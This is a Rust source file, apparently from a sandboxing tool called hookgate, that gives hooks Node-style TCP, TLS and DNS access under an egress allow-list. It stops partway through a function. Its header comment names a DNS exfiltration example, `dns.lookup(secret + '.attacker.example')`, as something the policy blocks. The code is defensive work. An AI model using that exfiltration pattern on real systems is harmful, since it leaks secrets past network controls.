//! Node's sockets for hooks: the TCP connections behind `net.connect`, the TLS client behind
//! `tls.connect` (also upgrading a connected socket: SMTP's STARTTLS), and the lookups behind
//! `dns.lookup`/`dns.resolve4`/`resolve6` — all on the engine's tokio runtime. A socket is a task
//! that owns its connection and talks with the worker that opened it: the worker sends it
//! [`Op`]s (write, end, pause, upgrade...), and it sends back many [`Event`]s per id (connected,
//! data, written, end, error, closed) through the worker's socket channel, which `io.js` hands to
//! the JS socket.
//!
//! Owns: how a socket reaches its host under `[hooks.egress]` — the allow-list and the
//! redirection map apply to every connect exactly as to HTTP (a name the redirection map knows
//! connects to its target; a forbidden host gets `ERR_HOOKGATE_EGRESS`, and nothing is
//! connected), and to lookups (a DNS query for a forbidden name is refused too: the query itself
//! would carry data out, `dns.lookup(secret + '.attacker.example')`), and so does a TLS
//! `servername` (SNI is sent in clear). An address a hook's lookup of an allowed name returned
//! is allowed to connect to by that hook for [`RESOLVED_TTL`] (a mailer resolves the host itself,
//! then connects to the IP) — never a loopback, link-local or unspecified one unless listed
//! exactly ([`is_internal`]); a name in the redirection map resolves to an address of its own in
//! 198.18.0.0/15 (RFC 2544's benchmarking range, never routed) that connects to its target. What
//! a hook can make the host hold is bounded: [`MAX_LOOKUPS`] lookups in the process, a call slot
//! per lookup, [`MAX_QUEUED_BYTES`] / [`MAX_QUEUED_OPS`] queued per socket (ENOBUFS past them). A
//! socket takes one of its call's outbound slots and one of the process's (`max_concurrent`)
//! while it is open — refused at once when none is free, as Node's EMFILE is, rather than waiting:
//! sockets are long-lived — and is closed at its call's deadline, or when its call ends (the
//! worker drops its [`Handle`]). One log line per socket (hook, host, port, bytes each way,
//! duration, how it ended).
//! Must not touch: JS values (the worker hands events to `io.js`), or the call's lifecycle
//! (`worker.rs` decides when a call ends and drops its sockets).

use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use crossbeam_channel::Sender;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::{mpsc, Notify, OwnedSemaphorePermit, Semaphore};

use super::egress::{Egress, Failure};

/// Bytes read at once.
const READ_CHUNK: usize = 64 << 10;
/// Bytes read but not yet handed to JS past which a socket stops reading (the server may send
/// faster than the hook consumes; TCP's own window then slows it down).
const MAX_UNDELIVERED: usize = 1 << 20;
/// Bytes a socket may have handed to it and not yet written; a write past it (when something is
/// queued already) fails the socket with ENOBUFS. A hook's stream writes one chunk at a time, so
/// only a peer that does not read (or a hook calling the natives in a loop) gets here.
const MAX_QUEUED_BYTES: usize = 4 << 20;
/// Operations a socket may have queued; past it the socket fails with ENOBUFS.
const MAX_QUEUED_OPS: usize = 1024;
/// Lookups waiting for the system's resolver at once, for the whole process; one more fails at
/// once with `EAI_AGAIN` (see [`lookup`]).
pub(crate) const MAX_LOOKUPS: usize = 32;
/// Addresses remembered as resolved from allowed names; past this the expired ones are dropped,
/// and if that is not enough the memory starts over.
const MAX_RESOLVED: usize = 4096;
/// How long an address a lookup returned may be connected to: about what resolvers' caches and
/// mailers' keep (nodemailer caches 5 minutes).
const RESOLVED_TTL: Duration = Duration::from_secs(600);

/// What the worker asks of a socket.
pub(crate) enum Op {
    /// Write the bytes; answer [`Kind::Written`] with this id.
    Write(u64, Vec<u8>),
    /// Half-close: no more writes (TCP FIN, TLS close_notify).
    End,
    Pause,
    Resume,
    NoDelay(bool),
    /// Start TLS on the connected socket (`tls.connect({ socket })`).
    Upgrade(TlsOptions),
}

/// `tls.connect`'s options that change what hookgate does.
#[derive(Debug, Clone, serde::Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub(crate) struct TlsOptions {
    pub servername: Option<String>,
    pub reject_unauthorized: bool,
    /// PEM certificates that replace the platform's roots, as Node's `ca` does.
    pub ca: Vec<String>,
    #[serde(rename = "ALPNProtocols")]
    pub alpn_protocols: Vec<String>,
}

impl Default for TlsOptions {
    fn default() -> Self {
        TlsOptions {
            servername: None,
            reject_unauthorized: true,
            ca: Vec::new(),
            alpn_protocols: Vec::new(),
        }
    }
}

/// The lookups `dns` offers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Query {
    /// `dns.lookup`: family 0 (any), 4 or 6.
    Lookup(u8),
    Resolve4,
    Resolve6,
}

/// Something a socket (or lookup) reports, tagged with its call and id.
pub(crate) struct Event {
    pub seq: u64,
    pub id: u64,
    pub kind: Kind,
}

pub(crate) enum Kind {
    /// `{remoteAddress, remotePort, remoteFamily, localAddress, localPort, localFamily}`.
    Connected(serde_json::Value),
    /// The TLS handshake is done: `{authorized, authorizationError, protocol, alpnProtocol,
    /// cert: {raw (base64 DER), fingerprint256}}`.
    Secure(serde_json::Value),
    Data(Vec<u8>),
    Written(u64),
    /// The peer will send no more.
    End,
    Failed(Failure),
    /// The connection is gone; the last event of a socket.
    Closed,
    /// A lookup's answer: addresses and their families.
    Resolved(Result<Vec<(String, u8)>, Failure>),
}

/// The worker's side of a socket or lookup in progress. Dropping it closes the socket.
pub(crate) struct Handle {
    ops: Option<mpsc::Sender<Op>>,
    /// Bytes of writes sent to the task and not yet written (shared with the task).
    queued: Arc<AtomicUsize>,
    /// Where the handle reports an overflow itself (the task's events), and whether it did.
    events: Option<(Sender<Event>, u64, u64)>,
    overflowed: std::sync::atomic::AtomicBool,
    task: Option<tokio::task::AbortHandle>,
    /// Keeps its call alive (Node's `ref`, the default); `unref()` clears it.
    pub keep: bool,
    credit: Option<Arc<Credit>>,
    /// How the socket ended, for its log line (shared with the task).
    ended: Option<Ended>,
}

type Ended = Arc<Mutex<Option<String>>>;

impl Handle {
    /// A handle for something that failed before it started: its events are already queued.
    fn finished() -> Handle {
        Handle {
            ops: None,
            queued: Arc::default(),
            events: None,
            overflowed: Default::default(),
            task: None,
            keep: true,
            credit: None,
            ended: None,
        }
    }

    /// Close the socket because `why` (the hook destroyed it): said in its log line.
    pub fn close(self, why: &str) {
        if let Some(ended) = &self.ended {
            ended
                .lock()
                .unwrap_or_else(|e| e.into_inner())
                .get_or_insert_with(|| why.to_owned());
        }
    }

    /// Hand the socket an operation. Past [`MAX_QUEUED_BYTES`] of writes or [`MAX_QUEUED_OPS`]
    /// operations queued, the socket fails with ENOBUFS (error, then close) and is closed: the
    /// host's memory is not the hook's to fill.
    pub fn send(&self, op: Op) {
        let Some(ops) = &self.ops else { return };
        if self.overflowed.load(Ordering::Acquire) {
            return;
        }
        let len = match &op {
            Op::Write(_, bytes) => bytes.len(),
            _ => 0,
        };
        let before = self.queued.fetch_add(len, Ordering::AcqRel);
        let over = before > 0 && before + len > MAX_QUEUED_BYTES;
        let full = over || matches!(ops.try_send(op), Err(mpsc::error::TrySendError::Full(_)));
        if !full {
            return;
        }
        self.queued.fetch_sub(len, Ordering::AcqRel);
        self.overflowed.store(true, Ordering::Release);
        let why = if over {
            format!("more than {} MiB of writes queued", MAX_QUEUED_BYTES >> 20)
        } else {
            format!("more than {MAX_QUEUED_OPS} operations queued")
        };
        if let Some(ended) = &self.ended {
            ended
                .lock()
                .unwrap_or_else(|e| e.into_inner())
                .get_or_insert_with(|| format!("ENOBUFS: {why}"));
        }
        if let Some(task) = &self.task {
            task.abort();
        }
        if let Some((events, seq, id)) = &self.events {
            let f = Failure {
                code: "ENOBUFS",
                message: "write ENOBUFS".into(),
                errno: Some(-105),
                syscall: Some("write"),
                detail: Some(format!("the socket has {why} (the peer is not reading)")),
                ..Failure::default()
            };
            send(events, *seq, *id, Kind::Failed(f));
            send(events, *seq, *id, Kind::Closed);
        }
    }

    /// `n` bytes of data were handed to JS: the socket may read that much more.
    pub fn delivered(&self, n: usize) {
        if let Some(c) = &self.credit {
            c.undelivered.fetch_sub(n, Ordering::AcqRel);
            c.notify.notify_one();
        }
    }
}

impl Drop for Handle {
    fn drop(&mut self) {
        if let Some(task) = &self.task {
            task.abort();
        }
    }
}

/// Bytes read and not yet delivered to JS.
struct Credit {
    undelivered: AtomicUsize,
    notify: Notify,
}

/// The call a socket is opened for.
pub(crate) struct Caller<'a> {
    pub hook: &'a str,
    pub seq: u64,
    pub id: u64,
    /// The call's outbound slots (`[hooks] max_requests_per_call`).
    pub slots: Arc<Semaphore>,
    /// What is left of the call's deadline.
    pub timeout: Duration,
}

/// The addresses lookups of allowed names returned, per hook (shared by the workers of one
/// engine): a hook may connect to an address its own lookup of an allowed name returned, for
/// [`RESOLVED_TTL`], and the name is checked against the allow-list again on connect (it may have
/// changed). Another hook's lookups open nothing for it.
#[derive(Default)]
pub(crate) struct Resolved(Mutex<HashMap<(String, IpAddr), (String, Instant)>>);

impl Resolved {
    fn remember(&self, hook: &str, name: &str, ips: impl IntoIterator<Item = IpAddr>) {
        let mut map = self.0.lock().unwrap_or_else(|e| e.into_inner());
        let now = Instant::now();
        if map.len() > MAX_RESOLVED {
            map.retain(|_, (_, until)| *until > now);
            if map.len() > MAX_RESOLVED {
                map.clear();
            }
        }
        for ip in ips {
            map.insert((hook.to_owned(), ip), (name.to_owned(), now + RESOLVED_TTL));
        }
    }

    /// The name a lookup of `hook`'s resolved to `ip`, if it has not expired.
    pub(crate) fn name_of(&self, hook: &str, ip: &IpAddr) -> Option<String> {
        let map = self.0.lock().unwrap_or_else(|e| e.into_inner());
        map.get(&(hook.to_owned(), *ip))
            .filter(|(_, until)| *until > Instant::now())
            .map(|(name, _)| name.clone())
    }
}

/// Whether an address a lookup of `name` returned is answered (and may be connected to).
fn admitted(policy: &Egress, name: &str, ip: &IpAddr) -> bool {
    !is_internal(ip)
        || policy.lists_exactly(name)
        || policy.lists_exactly(&ip.to_string())
        || policy.lists_exactly(&ip.to_canonical().to_string())
}

/// Loopback, link-local (169.254/16, fe80::/10: cloud metadata lives there) and unspecified
/// addresses: a lookup's answer never opens them unless the allow-list names them or the name
/// exactly (a wildcard's subdomain resolving to 127.0.0.1 is a way in, not a mail server).
pub(crate) fn is_internal(ip: &IpAddr) -> bool {
    match ip.to_canonical() {
        IpAddr::V4(v4) => v4.is_loopback() || v4.is_link_local() || v4.is_unspecified(),
        IpAddr::V6(v6) => {
            v6.is_loopback() || v6.is_unspecified() || (v6.segments()[0] & 0xffc0) == 0xfe80
        }
    }
}

/// Slots in 198.18.0.0/15 (see [`synthetic_ip`]).
const SLOTS: usize = 0x1fffe;

/// Each name of the redirection map with its slot: a hash of the name (so a configuration reload
/// that adds names does not move the others: a mailer caches what it resolved for minutes), the
/// next free slot on a collision.
pub(crate) fn synthetic_slots<'a>(names: impl Iterator<Item = &'a String>) -> Vec<(String, usize)> {
    let mut out: Vec<(String, usize)> = Vec::new();
    for name in names {
        // FNV-1a: stable across builds and processes, unlike std's hasher.
        let mut h: u32 = 0x811c_9dc5;
        for b in name.bytes() {
            h = (h ^ u32::from(b)).wrapping_mul(0x0100_0193);
        }
        let mut slot = h as usize % SLOTS;
        while out.iter().any(|(_, s)| *s == slot) {
            slot = (slot + 1) % SLOTS;
        }
        out.push((name.clone(), slot));
    }
    out
}

/// The address of slot `index` in 198.18.0.0/15 (RFC 2544's benchmarking range, never routed),
/// which a name of the redirection map resolves to.
pub(crate) fn synthetic_ip(index: usize) -> Ipv4Addr {
    let n = (index as u32 + 1) & 0x1ffff;
    Ipv4Addr::from((198u32 << 24) | (18 << 16) | n)
}

/// The index [`synthetic_ip`] gave, if `ip` is one.
pub(crate) fn synthetic_index(ip: &IpAddr) -> Option<usize> {
    let IpAddr::V4(v4) = ip else { return None };
    let n = u32::from(*v4);
    if n >> 17 != (198u32 << 7) | (18 >> 1) {
        return None;
    }
    (n & 0x1ffff).checked_sub(1).map(|i| i as usize)
}

/// A host as a hook may name it: an IP literal (IPv6 with or without brackets) or a DNS name of
/// letters, digits, hyphens, underscores (service names) and dots, at most 253 bytes. Checked
/// before anything else, so what reaches the log, the resolver or an error is never a control
/// character or a line of its own.
pub(crate) fn valid_host(host: &str) -> bool {
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    if bare.parse::<IpAddr>().is_ok() {
        return true;
    }
    !host.is_empty()
        && host.len() <= 253
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.' || b == b'_')
}

/// Node's answer for a name that cannot be one (`getaddrinfo ENOTFOUND`), the name escaped.
fn invalid_host(host: &str) -> Failure {
    let shown: String = host
        .chars()
        .take(256)
        .collect::<String>()
        .escape_debug()
        .to_string();
    Failure {
        code: "ENOTFOUND",
        message: format!("getaddrinfo ENOTFOUND {shown}"),
        errno: Some(-3008),
        syscall: Some("getaddrinfo"),
        peer: Some(shown),
        ..Failure::default()
    }
}

fn send(events: &Sender<Event>, seq: u64, id: u64, kind: Kind) {
    let _ = events.send(Event { seq, id, kind });
}

fn limit_failure(what: &str, host: &str, port: u16) -> Failure {
    Failure {
        code: "EMFILE",
        message: format!("connect EMFILE {host}:{port} - {what}"),
        errno: Some(-24),
        syscall: Some("connect"),
        peer: Some(host.to_owned()),
        port: Some(port),
        detail: None,
    }
}

/// Open a socket to `host`:`port` for a call (TLS from the start when `tls` is given). Every
/// outcome, a refusal included, arrives as events.
pub(crate) fn connect(
    egress: &Egress,
    call: Caller<'_>,
    host: String,
    port: u16,
    tls: Option<TlsOptions>,
    events: Sender<Event>,
) -> Handle {
    let Caller {
        hook,
        seq,
        id,
        slots,
        timeout,
    } = call;
    let fail = |f: Failure| {
        tracing::warn!(target: "hookgate::egress", hook = %hook, host = %host, port, "socket refused: {}", f.message);
        send(&events, seq, id, Kind::Failed(f));
        send(&events, seq, id, Kind::Closed);
        Handle::finished()
    };
    if !valid_host(&host) {
        tracing::warn!(target: "hookgate::egress", hook = %hook, host = ?host, port, "socket refused: not a host name");
        send(&events, seq, id, Kind::Failed(invalid_host(&host)));
        send(&events, seq, id, Kind::Closed);
        return Handle::finished();
    }
    let wire = match egress.socket_target(hook, &host, port) {
        Ok(w) => w,
        Err(f) => return fail(f),
    };
    let Some((handle, permits, max_concurrent)) = egress.runtime() else {
        return fail(Failure {
            code: "ERR_HOOKGATE_EGRESS",
            message: "sockets are not opened while the hook is loaded (module scope at load time)"
                .into(),
            ..Failure::default()
        });
    };
    let Ok(call_slot) = slots.try_acquire_owned() else {
        return fail(limit_failure(
            "the call has as many sockets and requests open as [hooks] max_requests_per_call allows",
            &host,
            port,
        ));
    };
    let Ok(permit) = permits.try_acquire_owned() else {
        return fail(limit_failure(
            &format!("hookgate has {max_concurrent} sockets and requests open, [hooks.egress] max_concurrent"),
            &host,
            port,
        ));
    };
    let (ops_tx, ops_rx) = mpsc::channel(MAX_QUEUED_OPS);
    let queued: Arc<AtomicUsize> = Arc::default();
    let credit = Arc::new(Credit {
        undelivered: AtomicUsize::new(0),
        notify: Notify::new(),
    });
    let ended: Ended = Arc::default();
    let log = Log {
        hook: hook.to_owned(),
        host: if wire.name == host.to_ascii_lowercase() {
            host.clone()
        } else {
            format!("{host} ({})", wire.name)
        },
        port,
        started: Instant::now(),
        read: AtomicU64::new(0),
        written: AtomicU64::new(0),
        ended: ended.clone(),
    };
    let reports = (events.clone(), seq, id);
    let task = Task {
        seq,
        id,
        named: host,
        port,
        wire,
        queued: queued.clone(),
        events,
        credit: credit.clone(),
        log,
        _slots: (call_slot, permit),
        policy: egress.clone(),
    };
    let join = handle.spawn(async move {
        let outcome = tokio::time::timeout(timeout, task.run(tls, ops_rx)).await;
        let ended = match outcome {
            Ok(Ok(())) => "closed".to_owned(),
            Ok(Err(f)) => {
                let text = format!("{}: {}", f.code, f.message);
                send(&task.events, task.seq, task.id, Kind::Failed(f));
                text
            }
            Err(_) => "closed at the hook's timeout".to_owned(),
        };
        task.log
            .ended
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .get_or_insert(ended);
        send(&task.events, task.seq, task.id, Kind::Closed);
    });
    Handle {
        ops: Some(ops_tx),
        queued,
        events: Some(reports),
        overflowed: Default::default(),
        task: Some(join.abort_handle()),
        keep: true,
        credit: Some(credit),
        ended: Some(ended),
    }
}

/// Resolve `host` for a call. The answer arrives as [`Kind::Resolved`].
pub(crate) fn lookup(
    egress: &Egress,
    call: Caller<'_>,
    host: String,
    query: Query,
    events: Sender<Event>,
) -> Handle {
    let (seq, id) = (call.seq, call.id);
    let answer = |r: Result<Vec<(String, u8)>, Failure>| {
        send(&events, seq, id, Kind::Resolved(r));
        Handle::finished()
    };
    if !valid_host(&host) {
        tracing::warn!(target: "hookgate::egress", hook = %call.hook, host = ?host, "lookup refused: not a host name");
        return answer(Err(invalid_host(&host)));
    }
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    if let Ok(ip) = bare.parse::<IpAddr>() {
        let family = if ip.is_ipv4() { 4 } else { 6 };
        let wanted = match query {
            Query::Lookup(f) => f == 0 || f == family,
            Query::Resolve4 => family == 4,
            Query::Resolve6 => family == 6,
        };
        return answer(if wanted {
            Ok(vec![(ip.to_string(), family)])
        } else {
            Err(no_data(query, &host))
        });
    }
    let name = host.to_ascii_lowercase();
    if !egress.allows(&name) {
        tracing::warn!(target: "hookgate::egress", hook = %call.hook, host = %name, "lookup refused: not in [hooks.egress] allow_hosts");
        return answer(Err(super::egress::forbidden(&name)));
    }
    if let Some(ip) = egress.synthetic_for(&name) {
        return answer(if query == Query::Resolve6 || query == Query::Lookup(6) {
            Err(no_data(query, &host))
        } else {
            Ok(vec![(ip.to_string(), 4)])
        });
    }
    let Some((handle, _, _)) = egress.runtime() else {
        return answer(Err(Failure {
            code: "ERR_HOOKGATE_EGRESS",
            message: "lookups are not made while the hook is loaded (module scope at load time)"
                .into(),
            ..Failure::default()
        }));
    };
    let Some(permits) = egress.lookup_permits() else {
        return answer(Err(super::egress::forbidden(&name)));
    };
    let resolved = egress.resolved();
    let (timeout, slots) = (call.timeout, call.slots);
    let hook = call.hook.to_owned();
    let policy = egress.clone();
    let join = handle.spawn(async move {
        let run = async {
            // The call's own slot first, waited for as a request waits (`[hooks]
            // max_requests_per_call`); held by this task only, so a lookup abandoned when its
            // call ends (the task is aborted) frees it at once.
            let _call_slot = slots.acquire_owned().await.ok();
            // Then one of the process's lookups, at once or not at all: the resolver call cannot
            // be cancelled, so its permit goes with it to the blocking pool and is released
            // only when getaddrinfo returns.
            let Ok(permit) = permits.try_acquire_owned() else {
                tracing::warn!(target: "hookgate::egress", hook = %hook, host = %host,
                    "lookup refused: {MAX_LOOKUPS} lookups are already waiting for the resolver");
                return Err(busy(query, &host));
            };
            let name = host.clone();
            tokio::task::spawn_blocking(move || {
                let _permit = permit;
                std::net::ToSocketAddrs::to_socket_addrs(&(name.as_str(), 0))
                    .map(|a| a.collect::<Vec<_>>())
            })
            .await
            .map_err(|_| busy(query, &host))
        };
        let found = match tokio::time::timeout(timeout, run).await {
            Ok(Err(f)) => {
                send(&events, seq, id, Kind::Resolved(Err(f)));
                return;
            }
            Ok(Ok(r)) => Ok(r),
            Err(e) => Err(e),
        };
        let result = match found {
            Ok(Ok(addrs)) => {
                let mut out: Vec<(String, u8)> = Vec::new();
                let mut ips = Vec::new();
                let mut refused = None;
                for a in addrs {
                    let ip = a.ip();
                    if !admitted(&policy, &name, &ip) {
                        refused = Some(ip);
                        continue;
                    }
                    let family = if ip.is_ipv4() { 4 } else { 6 };
                    let keep = match query {
                        Query::Lookup(f) => f == 0 || f == family,
                        Query::Resolve4 => family == 4,
                        Query::Resolve6 => family == 6,
                    };
                    let text = ip.to_string();
                    if keep && !out.iter().any(|(t, _)| *t == text) {
                        ips.push(ip);
                        out.push((text, family));
                    }
                }
                resolved.remember(&hook, &name, ips);
                if let (true, Some(ip)) = (out.is_empty(), refused) {
                    tracing::warn!(target: "hookgate::egress", hook = %hook, host = %name, %ip,
                        "lookup refused: the name resolves to a loopback, link-local or unspecified address");
                    Err(Failure {
                        code: "ERR_HOOKGATE_EGRESS",
                        message: format!("host `{name}` resolves to {ip}, which hookgate does not connect to unless [hooks.egress] allow_hosts lists the name or the address itself"),
                        ..Failure::default()
                    })
                } else if out.is_empty() {
                    Err(no_data(query, &host))
                } else {
                    Ok(out)
                }
            }
            Ok(Err(e)) => Err(not_found(query, &host, &e)),
            Err(_) => Err(Failure {
                code: "ETIMEOUT",
                message: format!("{} ETIMEOUT {host}", syscall_of(query)),
                syscall: Some(syscall_of(query)),
                peer: Some(host.clone()),
                ..Failure::default()
            }),
        };
        send(&events, seq, id, Kind::Resolved(result));
    });
    Handle {
        ops: None,
        queued: Arc::default(),
        events: None,
        overflowed: Default::default(),
        task: Some(join.abort_handle()),
        keep: true,
        credit: None,
        ended: None,
    }
}

fn syscall_of(query: Query) -> &'static str {
    match query {
        Query::Lookup(_) => "getaddrinfo",
        Query::Resolve4 => "queryA",
        Query::Resolve6 => "queryAaaa",
    }
}

/// Node's answer when the resolver is busy (the process's [`MAX_LOOKUPS`] are all waiting on it):
/// `EAI_AGAIN` for `lookup`, `ETIMEOUT` for `resolve*`, as when a DNS server does not answer.
fn busy(query: Query, host: &str) -> Failure {
    let (code, errno) = match query {
        Query::Lookup(_) => ("EAI_AGAIN", Some(-3001)),
        _ => ("ETIMEOUT", None),
    };
    Failure {
        code,
        message: format!("{} {code} {host}", syscall_of(query)),
        errno,
        syscall: Some(syscall_of(query)),
        peer: Some(host.to_owned()),
        detail: Some(format!(
            "hookgate allows {MAX_LOOKUPS} lookups waiting for the resolver at once"
        )),
        ..Failure::default()
    }
}

/// Node's answer for a name with no address of the family asked for.
fn no_data(query: Query, host: &str) -> Failure {
    match query {
        Query::Lookup(_) => Failure {
            code: "ENOTFOUND",
            message: format!("getaddrinfo ENOTFOUND {host}"),
            errno: Some(-3008),
            syscall: Some("getaddrinfo"),
            peer: Some(host.to_owned()),
            ..Failure::default()
        },
        _ => Failure {
            code: "ENODATA",
            message: format!("{} ENODATA {host}", syscall_of(query)),
            syscall: Some(syscall_of(query)),
            peer: Some(host.to_owned()),
            ..Failure::default()
        },
    }
}

fn not_found(query: Query, host: &str, e: &std::io::Error) -> Failure {
    let again = e.to_string().to_ascii_lowercase().contains("temporary");
    let (code, errno) = if again {
        ("EAI_AGAIN", -3001)
    } else {
        ("ENOTFOUND", -3008)
    };
    let code = if query == Query::Lookup(0) || matches!(query, Query::Lookup(_)) || again {
        code
    } else {
        "ENOTFOUND"
    };
    Failure {
        code,
        message: format!("{} {code} {host}", syscall_of(query)),
        errno: matches!(query, Query::Lookup(_)).then_some(errno),
        syscall: Some(syscall_of(query)),
        peer: Some(host.to_owned()),
        detail: Some(e.to_string()),
        ..Failure::default()
    }
}

/// Where a socket connects on the wire.
#[derive(Debug, Clone)]
pub(crate) struct Wire {
    pub host: String,
    pub port: u16,
    /// The name the connect is for: the hook's host, or the redirected name an address from
    /// [`synthetic_ip`] stands for (for the log).
    pub name: String,
}

/// The one log line of a socket, written when it ends however it ends (an aborted task drops it).
struct Log {
    hook: String,
    host: String,
    port: u16,
    started: Instant,
    read: AtomicU64,
    written: AtomicU64,
    ended: Ended,
}

impl Drop for Log {
    fn drop(&mut self) {
        let ms = self.started.elapsed().as_secs_f64() * 1000.0;
        let ended = self
            .ended
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .take()
            .unwrap_or_else(|| "closed when its call ended".to_owned());
        tracing::info!(target: "hookgate::egress", hook = %self.hook, host = %self.host, port = self.port,
            bytes_in = self.read.load(Ordering::Relaxed), bytes_out = self.written.load(Ordering::Relaxed),
            ms = format_args!("{ms:.1}"), ended = %ended, "socket");
    }
}

struct Task {
    seq: u64,
    id: u64,
    /// The host the hook named (errors name it, never the redirection target).
    named: String,
    port: u16,
    wire: Wire,
    /// Bytes of writes queued for it ([`Handle::send`] counts them in, the task out).
    queued: Arc<AtomicUsize>,
    events: Sender<Event>,
    credit: Arc<Credit>,
    log: Log,
    _slots: (OwnedSemaphorePermit, OwnedSemaphorePermit),
    /// The allow-list, for the `servername` of a TLS handshake.
    policy: Egress,
}

enum Stream {
    Plain(TcpStream),
    Tls(Box<tokio_rustls::client::TlsStream<TcpStream>>),
    Gone,
}

impl Stream {
    async fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        match self {
            Stream::Plain(s) => s.read(buf).await,
            Stream::Tls(s) => s.read(buf).await,
            Stream::Gone => Ok(0),
        }
    }
    async fn write_all(&mut self, buf: &[u8]) -> std::io::Result<()> {
        match self {
            Stream::Plain(s) => s.write_all(buf).await,
            Stream::Tls(s) => {
                s.write_all(buf).await?;
                s.flush().await
            }
            Stream::Gone => Err(std::io::ErrorKind::NotConnected.into()),
        }
    }
    async fn shutdown(&mut self) -> std::io::Result<()> {
        match self {
            Stream::Plain(s) => s.shutdown().await,
            Stream::Tls(s) => s.shutdown().await,
            Stream::Gone => Ok(()),
        }
    }
}

impl Task {
    fn emit(&self, kind: Kind) {
        send(&self.events, self.seq, self.id, kind);
    }

    async fn run(
        &self,
        tls: Option<TlsOptions>,
        mut ops: mpsc::Receiver<Op>,
    ) -> Result<(), Failure> {
        let tcp = TcpStream::connect((self.wire.host.as_str(), self.wire.port))
            .await
            .map_err(|e| self.connect_failure(&e))?;
        let (peer, local) = (tcp.peer_addr().ok(), tcp.local_addr().ok());
        self.emit(Kind::Connected(addresses(peer, local)));
        let mut stream = Stream::Plain(tcp);
        if let Some(opts) = tls {
            stream = self.handshake(stream, opts).await?;
        }
        let mut buf = vec![0u8; READ_CHUNK];
        let (mut paused, mut eof, mut write_closed) = (false, false, false);
        loop {
            if eof && write_closed {
                return Ok(());
            }
            let room = self.credit.undelivered.load(Ordering::Acquire) < MAX_UNDELIVERED;
            tokio::select! {
                op = ops.recv() => {
                    let Some(op) = op else { return Ok(()) }; // destroyed
                    match op {
                        Op::Write(wid, bytes) => {
                            let written = stream.write_all(&bytes).await;
                            self.queued.fetch_sub(bytes.len(), Ordering::AcqRel);
                            if let Err(e) = written {
                                return Err(io_failure(&e, "write"));
                            }
                            self.log.written.fetch_add(bytes.len() as u64, Ordering::Relaxed);
                            self.emit(Kind::Written(wid));
                        }
                        Op::End => {
                            write_closed = true;
                            let _ = stream.shutdown().await;
                        }
                        Op::Pause => paused = true,
                        Op::Resume => paused = false,
                        Op::NoDelay(on) => {
                            if let Stream::Plain(s) = &stream {
                                let _ = s.set_nodelay(on);
                            } else if let Stream::Tls(s) = &stream {
                                let _ = s.get_ref().0.set_nodelay(on);
                            }
                        }
                        Op::Upgrade(opts) => {
                            let plain = std::mem::replace(&mut stream, Stream::Gone);
                            stream = self.handshake(plain, opts).await?;
                        }
                    }
                }
                n = stream.read(&mut buf), if !paused && !eof && room => {
                    match n {
                        Ok(0) => {
                            eof = true;
                            self.emit(Kind::End);
                        }
                        Ok(n) => {
                            self.log.read.fetch_add(n as u64, Ordering::Relaxed);
                            self.credit.undelivered.fetch_add(n, Ordering::AcqRel);
                            self.emit(Kind::Data(buf[..n].to_vec()));
                        }
                        Err(e) => return Err(io_failure(&e, "read")),
                    }
                }
                _ = self.credit.notify.notified(), if !room => {}
            }
        }
    }

    async fn handshake(&self, stream: Stream, opts: TlsOptions) -> Result<Stream, Failure> {
        let Stream::Plain(tcp) = stream else {
            return Err(Failure {
                code: "ERR_HOOKGATE_TLS",
                message: "the socket is already secure or closed".into(),
                ..Failure::default()
            });
        };
        let name = opts
            .servername
            .clone()
            .filter(|s| !s.is_empty())
            .unwrap_or_else(|| {
                self.named
                    .trim_start_matches('[')
                    .trim_end_matches(']')
                    .to_owned()
            });
        let server_name = ServerName::try_from(name.clone()).map_err(|_| Failure {
            code: "ERR_INVALID_ARG_VALUE",
            message: format!("invalid servername {name:?}"),
            ..Failure::default()
        })?;
        // SNI goes out in clear, to the peer and everyone on the path: a servername the hook
        // chose is held to the allow-list as a host it names is (an address sends none).
        if matches!(server_name, ServerName::DnsName(_)) && !self.policy.allows(&name) {
            return Err(super::egress::forbidden(&name));
        }
        let (config, recorder) = client_config(&opts)?;
        let connector = tokio_rustls::TlsConnector::from(config);
        let tls = connector
            .connect(server_name, tcp)
            .await
            .map_err(|e| {
                let detail = format!("{e}");
                match super::egress::tls_failure(&detail, &name) {
                    Some((code, message)) => Failure {
                        code,
                        message,
                        detail: Some(detail),
                        ..Failure::default()
                    },
                    None => Failure {
                        code: "ECONNRESET",
                        message: "Client network socket disconnected before secure TLS connection was established".into(),
                        detail: Some(detail),
                        ..Failure::default()
                    },
                }
            })?;
        let (_, conn) = tls.get_ref();
        let error = recorder.and_then(|r| r.0.lock().unwrap_or_else(|e| e.into_inner()).take());
        let protocol = match conn.protocol_version() {
            Some(rustls::ProtocolVersion::TLSv1_3) => "TLSv1.3",
            Some(rustls::ProtocolVersion::TLSv1_2) => "TLSv1.2",
            _ => "unknown",
        };
        let cert = conn.peer_certificates().and_then(|c| c.first()).map(|der| {
            use base64::Engine;
            use sha2::Digest;
            let digest = sha2::Sha256::digest(der.as_ref());
            let fp: Vec<String> = digest.iter().map(|b| format!("{b:02X}")).collect();
            serde_json::json!({
                "raw": base64::engine::general_purpose::STANDARD.encode(der.as_ref()),
                "fingerprint256": fp.join(":"),
            })
        });
        let alpn = conn
            .alpn_protocol()
            .map(|p| String::from_utf8_lossy(p).into_owned());
        self.emit(Kind::Secure(serde_json::json!({
            "authorized": error.is_none(),
            "authorizationError": error,
            "protocol": protocol,
            "alpnProtocol": alpn,
            "servername": name,
            "cert": cert,
        })));
        Ok(Stream::Tls(Box::new(tls)))
    }

    /// A failed connect as Node reports it, about the host the hook named.
    fn connect_failure(&self, e: &std::io::Error) -> Failure {
        let (code, errno) = match e.kind() {
